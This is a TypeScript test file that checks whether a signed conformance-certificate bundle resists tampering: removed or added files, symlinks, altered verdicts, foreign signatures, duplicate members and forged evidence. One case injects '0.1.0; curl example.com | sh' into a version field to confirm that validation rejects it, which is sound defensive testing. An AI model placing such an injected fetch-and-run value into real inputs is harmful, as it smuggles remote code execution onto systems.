import { readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { CERTIFICATE_PAGE, EVIDENCE_FILE, REPORT_FILE, STATEMENT_FILE } from '../../certificate/bundle.js';
import { jsonText } from '../../certificate/dsse.js';
import { keyidOf } from '../../certificate/keys.js';
import { type Line, linesIn, writeLines } from '../evidence/recorded.js';
import { problemsOf, validatorOf } from '../schemas/schema-validator.js';
import { bundle, copyOf, honestRun, newSigner, refusalsOf, restate, state, statementIn, verified } from './bundle.js';

// Changes to a signed bundle by who does not have the key.

const FILE_NAMES = [STATEMENT_FILE, REPORT_FILE, EVIDENCE_FILE] as const;
const [vendor, stranger] = [newSigner(), newSigner()];
let signed: string;
let unsigned: string;

beforeAll(async () => {
  signed = await honestRun();
  unsigned = copyOf(signed);
  await bundle(signed, vendor);
  await bundle(unsigned);
});

const read = (directory: string, name: string): Buffer => readFileSync(join(directory, name));
const write = (directory: string, name: string, bytes: Uint8Array | string) =>
  writeFileSync(join(directory, name), bytes);

/** Changes the statement, which is then signed by nobody. */
function change(directory: string, by: (statement: Line) => void = () => undefined): Promise<void> {
  const statement = statementIn(directory);
  by(statement);
  return state(directory, JSON.stringify(statement));
}

test('a bundle is verified, and the result keeps to its schema', async () => {
  const validate = validatorOf('schemas/verification.schema.json');
  const verification = await verified(signed, { trusted: [vendor.publicKey] });
  expect(verification).toMatchObject({ result: 'verified', verified: true, class: 'self-attested' });
  expect(problemsOf(validate, verification)).toEqual([]);
  const derived = await verified(unsigned);
  expect(problemsOf(validate, derived)).toEqual([]);
  expect(derived).toMatchObject({ result: 'derived', verified: false });
  expect(problemsOf(validatorOf('schemas/statement.schema.json'), statementIn(signed))).toEqual([]);
});

test('a page beside a bundle is not read, whatever it says', async () => {
  const directory = copyOf(signed);
  symlinkSync('/dev/zero', join(directory, CERTIFICATE_PAGE));
  expect(await verified(directory)).toMatchObject({ result: 'derived', class: 'self-attested' });
  expect(await verified(directory, { programmes: [vendor.publicKey] })).toMatchObject({
    result: 'verified',
    class: 'programme-run',
  });
});

test('a bundle of another version is checked by that version', async () => {
  const directory = copyOf(unsigned);
  const [header, ...rest] = linesIn(directory);
  writeLines(directory, [{ ...header, tool: { ...header.tool, version: '0.0.9' } }, ...rest]);
  await bundle(directory);
  expect(await refusalsOf(directory)).toMatch(
    /^version: Version 0\.0\.9 made it.* install store-orders-conformance 0\.0\.9, and run `store-orders-conformance verify` again\.$/,
  );
});

describe('a change is refused, and the message names it', () => {
  type Change = readonly [what: string, expected: RegExp, make: (at: string) => void | Promise<void>];
  const CHANGES: readonly Change[] = [
    ...FILE_NAMES.map(
      (name): Change => [
        `${name} removed`,
        new RegExp(`^files: ${name} is missing`),
        (at) => unlinkSync(join(at, name)),
      ],
    ),
    [
      'evidence that is compressed otherwise',
      /^digests: evidence\.jsonl\.gz was changed/,
      (at) => write(at, EVIDENCE_FILE, gzipSync(gunzipSync(read(at, EVIDENCE_FILE)), { level: 9 })),
    ],
    ['a file added', /^files: The bundle holds "notes.txt"/, (at) => write(at, 'notes.txt', 'see')],
    [
      'a file that is a link',
      /^files: report.json is not a regular file/,
      (at) => {
        unlinkSync(join(at, REPORT_FILE));
        symlinkSync(join(signed, REPORT_FILE), join(at, REPORT_FILE));
      },
    ],
    [
      'a verdict in the report',
      /^digests: report.json was changed/,
      (at) => write(at, REPORT_FILE, String(read(at, REPORT_FILE)).replace('"verdict": "pass"', '"verdict": "warn"')),
    ],
    ['the signature removed', /^signature: The statement names a key, but has no signature/, (at) => change(at)],
    [
      'the signature of another statement',
      /^signature: The signature does not fit the statement/,
      async (at) => {
        const { signatures } = JSON.parse(String(read(at, STATEMENT_FILE)));
        await change(at, ({ predicate }) => {
          predicate.conformance.issuedAt = '2026-01-01T00:00:00.000Z';
        });
        write(at, STATEMENT_FILE, jsonText({ ...JSON.parse(String(read(at, STATEMENT_FILE))), signatures }));
      },
    ],
    [
      'a member that no statement has',
      /^envelope: .*must NOT have additional properties/,
      (at) => change(at, (statement) => Object.assign(statement, { note: 1 })),
    ],
    [
      'a member twice',
      /^statement: .*as `certify` spells it/m,
      (at) => state(at, JSON.stringify(statementIn(at)).replace('"issuedAt":', '"issuedAt":"","issuedAt":'), vendor),
    ],
    [
      'a version that is a command',
      /^envelope: .*tool\/version must match pattern/,
      (at) =>
        change(at, ({ predicate }) => {
          predicate.conformance.tool.version = '0.1.0; curl example.com | sh';
        }),
    ],
    [
      'a file in its place',
      /^files: It is not a directory\. Unpack an archive first\.$/,
      (at) => {
        rmSync(at, { recursive: true });
        write(at, '', 'an archive');
      },
    ],
    ['bytes after the envelope', /^envelope: /, (at) => write(at, STATEMENT_FILE, `${read(at, STATEMENT_FILE)} `)],
  ];

  test.each(CHANGES)('%s', async (_what, expected, make) => {
    const directory = copyOf(signed);
    await make(directory);
    expect(await refusalsOf(directory)).toMatch(expected);
  });

  test('signed again with another key, or by nobody: derived, and not verified', async () => {
    const directory = copyOf(signed);
    await bundle(directory, stranger);
    const signature = { state: 'unknown-signer', keyid: keyidOf(stranger.publicKey) };
    const trusted = [vendor.publicKey];
    for (const options of [{}, { trusted }]) {
      expect(await verified(directory, options)).toMatchObject({ result: 'derived', verified: false, signature });
    }
    expect(await verified(unsigned, { trusted })).toMatchObject({
      result: 'derived',
      signature: { state: 'unsigned' },
    });
  });

  /** Changes the evidence, and makes report, statement and signature from it. */
  const remade = async (make: (lines: Line[]) => void): Promise<string> => {
    const directory = copyOf(signed);
    const lines = linesIn(directory);
    make(lines);
    writeLines(directory, lines);
    await bundle(directory, vendor).catch(() => restate(directory, statementIn(directory), vendor));
    return refusalsOf(directory);
  };
  const header = (lines: Line[]) => lines[0];

  test('a strictness that was added later', async () => {
    const said = await remade((lines) => Object.assign(header(lines), { strict: true }));
    expect(said).toMatch(/^evidence: It says that the run was strict, which no evidence shows/);
  });

  test('a second answer after a definite one, to a listing, and to a cancel', async () => {
    for (const method of ['GET', 'DELETE']) {
      const said = await remade((lines) => {
        const exchanges: Line[] = lines.flatMap(({ exchange }) => exchange ?? []);
        const first = exchanges.find(({ sent }) => sent.method === method);
        for (const later of exchanges.filter(({ begun }) => begun > first.ended)) {
          Object.assign(later, { begun: later.begun + 2, ended: later.ended + 2 });
        }
        const again = { ...structuredClone(first), begun: first.ended + 1, ended: first.ended + 2 };
        lines.splice(-1, 0, { exchange: again });
      });
      expect(said).toMatch(/^evidence: .* was sent again, although it /);
    }
  });

  test.each<[what: string, change: (inputs: Line) => void, expected: RegExp]>([
    ['a selection', ({ select }) => select.scenarios.push('*'), /a selection .* leaves requirements out/],
    ['a read-only run', (inputs) => Object.assign(inputs, { readOnly: true }), /a read-only run/],
    ['many repetitions', (inputs) => Object.assign(inputs, { repeat: 51 }), /more than 50 repetitions/],
    [
      'a key of one character',
      ({ key }) => Object.assign(key, { isOneCharacter: true }),
      /an API key of one character/,
    ],
  ])('%s, as the evidence has it', async (_what, change, expected) => {
    const said = await remade((lines) => change(header(lines).inputs));
    expect(said).toMatch(/^evidence: evidence\.jsonl\.gz: /);
    expect(said).toMatch(expected);
  });
});
